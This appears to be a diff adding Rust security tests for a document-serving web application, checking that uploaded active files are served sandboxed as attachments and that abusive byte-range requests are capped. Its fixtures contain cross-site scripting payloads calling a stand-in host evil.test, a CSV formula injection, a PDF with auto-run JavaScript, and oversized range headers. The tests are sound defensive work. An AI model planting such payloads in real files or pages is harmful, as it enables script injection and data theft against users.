@@ -1,0 +1,127 @@
+//! S41, S42, S45: files that would run, and requests that want too much of one.
+
+use crate::documents::Desk;
+use axum::body::Body;
+use http::{HeaderMap, Method, header};
+use tests::papers;
+
+/// What would run where it is shown, under names of its own and of others.
+const ACTIVE: &[(&str, &[u8])] = &[
+    ("scan.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//evil.test')</script></svg>"),
+    ("letter.html", b"<!doctype html><html><body><script>document.cookie='x=1'</script></body></html>"),
+    ("page.xhtml", b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script></html>"),
+    ("data.xml", b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"//evil.test\"?><a/>"),
+    ("viewer.js", b"import('//evil.test/x.js'); alert(document.domain)"),
+    ("photo.jpg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
+    ("report.pdf", b"<html><script>alert(1)</script></html>"),
+    ("labs.txt", b"<script>alert(1)</script>"),
+    ("table.csv", b"=HYPERLINK(\"http://evil.test\")"),
+];
+
+/// Every original that the case keeps, by the address under which the desk serves it.
+async fn originals(desk: &Desk) -> Vec<(String, String, String)> {
+    let look = desk.house.database.look().await;
+    let rows: Vec<(uuid::Uuid, uuid::Uuid, String)> =
+        sqlx::query_as("SELECT document_id, id, name FROM files WHERE document_id IS NOT NULL ORDER BY name")
+            .fetch_all(&look)
+            .await
+            .expect("files");
+    rows.into_iter()
+        .map(|(document, file, name)| {
+            let document = desk.path(&format!("documents/{document}"));
+            (format!("{document}/files/{file}"), document, name)
+        })
+        .collect()
+}
+
+/// Nothing of a served file may run, be guessed at, be shown by itself or be kept by anybody on the way.
+fn sealed(headers: &HeaderMap, what: &str) {
+    let said = |name| headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or("");
+    assert_eq!(said(header::CONTENT_SECURITY_POLICY), "default-src 'none'; sandbox", "{what}");
+    assert_eq!(said(header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{what}");
+    assert!(said(header::CONTENT_DISPOSITION).starts_with("attachment; "), "{what}: {headers:?}");
+    assert_eq!(said(header::CACHE_CONTROL), "no-store", "{what}");
+    assert!(!headers.contains_key(header::SET_COOKIE), "{what}: {headers:?}");
+    let kind = said(header::CONTENT_TYPE);
+    let harmless = ["application/octet-stream", "application/pdf", "application/zip", "application/dicom"];
+    assert!(harmless.contains(&kind) || (kind.starts_with("image/") && kind != "image/svg+xml"), "{what}: {kind}");
+}
+
+#[tokio::test]
+async fn s41_what_would_run_is_taken_away_or_not_at_all_and_never_drawn() {
+    let mut desk = Desk::new().await;
+    desk.sent(ACTIVE).await;
+    let served = originals(&desk).await;
+    assert!(served.len() >= 4, "some of them are kept: {served:?}");
+    for (file, document, name) in &served {
+        let answer = desk.maryam.get(file).await.expect(200);
+        sealed(&answer.headers, name);
+        assert_eq!(answer.headers[header::CONTENT_TYPE], "application/octet-stream", "{name}");
+        let archive = desk.maryam.get(&format!("{document}/archive")).await.expect(200);
+        sealed(&archive.headers, name);
+        for picture in ["pages/1", "frames/1"] {
+            desk.maryam.get(&format!("{document}/{picture}")).await.expect(404);
+        }
+        let page = desk.maryam.get(document).await.expect(200).text();
+        assert!(!page.contains("<script>") && !page.contains("onload="), "{name} is drawn on its page");
+    }
+}
+
+/// A PDF that runs JavaScript when it is opened (PDF 32000-1, 12.6.4.16).
+fn scripted() -> Vec<u8> {
+    let plain = papers::pdf(&["Labs of the canary"]);
+    let text = String::from_utf8_lossy(&plain).into_owned();
+    let open = "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Pages 2 0 R >>";
+    text.replace("<< /Type /Catalog /Pages 2 0 R >>", open).into_bytes()
+}
+
+#[tokio::test]
+async fn s41_a_pdf_that_runs_is_warned_about_shown_as_pictures_and_sealed() {
+    let mut desk = Desk::new().await;
+    desk.sent(&[("2026-07-02 labs.pdf", &scripted())]).await;
+    let served = originals(&desk).await;
+    let [(file, document, _)] = served.as_slice() else { panic!("one file: {served:?}") };
+    let page = desk.maryam.get(document).await.expect(200).text();
+    assert!(page.contains("JavaScript") || page.contains("program"), "{page}");
+    let answer = desk.maryam.get(file).await.expect(200);
+    sealed(&answer.headers, "a PDF with JavaScript");
+    let picture = desk.maryam.get(&format!("{document}/pages/1")).await.expect(200);
+    assert!(picture.body.starts_with(b"\x89PNG"));
+    assert_eq!(picture.headers[header::CONTENT_SECURITY_POLICY], "default-src 'none'; sandbox");
+    assert_eq!(picture.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+    assert_eq!(picture.headers[header::CACHE_CONTROL], "no-store");
+    assert!(!picture.headers.contains_key(header::SET_COOKIE));
+}
+
+#[tokio::test]
+async fn s45_ranges_are_capped_and_a_file_sets_nothing() {
+    let mut desk = Desk::new().await;
+    let labs = papers::pdf_with(&["Labs"], &[5; 100_000]);
+    desk.sent(&[("2026-07-02 labs.pdf", &labs)]).await;
+    let served = originals(&desk).await;
+    let (file, document, _) = &served[0];
+    // A thousand ranges of everything would be a hundred megabytes.
+    let many = format!("bytes={}", vec!["0-"; 1000].join(","));
+    let overlapping = format!("bytes={}", (0..200).map(|n| format!("{n}-99999")).collect::<Vec<_>>().join(", "));
+    for range in [many.as_str(), overlapping.as_str(), "bytes=0-1,2-3", "bytes=-5,-6"] {
+        let answer = desk.maryam.send(Method::GET, file, &[("range", range)], Body::empty()).await.expect(200);
+        assert_eq!(answer.body.len(), labs.len(), "once, whole");
+        sealed(&answer.headers, range);
+    }
+    for range in ["bytes=99999999999999999999-", "bytes=5-2", "bytes=a-b", "bytes=", "rows=1-2", "bytes=0-0;q=1"] {
+        let answer = desk.maryam.send(Method::GET, file, &[("range", range)], Body::empty()).await;
+        assert!(matches!(answer.status.as_u16(), 200 | 416), "{range}: {}", answer.status);
+        assert!(answer.body.len() <= labs.len());
+    }
+    // Neither a wish for a language nor a browser that comes for the first time makes a file set a cookie.
+    for path in
+        [format!("{file}?lang=ar"), format!("{document}/archive?lang=ru"), format!("{document}/pages/1?lang=zh")]
+    {
+        for method in [Method::GET, Method::HEAD] {
+            desk.maryam.cookies.remove(web::here::BROWSER);
+            let answer = desk.maryam.send(method, &path, &[], Body::empty()).await.expect(200);
+            assert!(!answer.headers.contains_key(header::SET_COOKIE), "{path}: {:?}", answer.headers);
+            assert_eq!(answer.headers[header::CACHE_CONTROL], "no-store");
+        }
+    }
+}
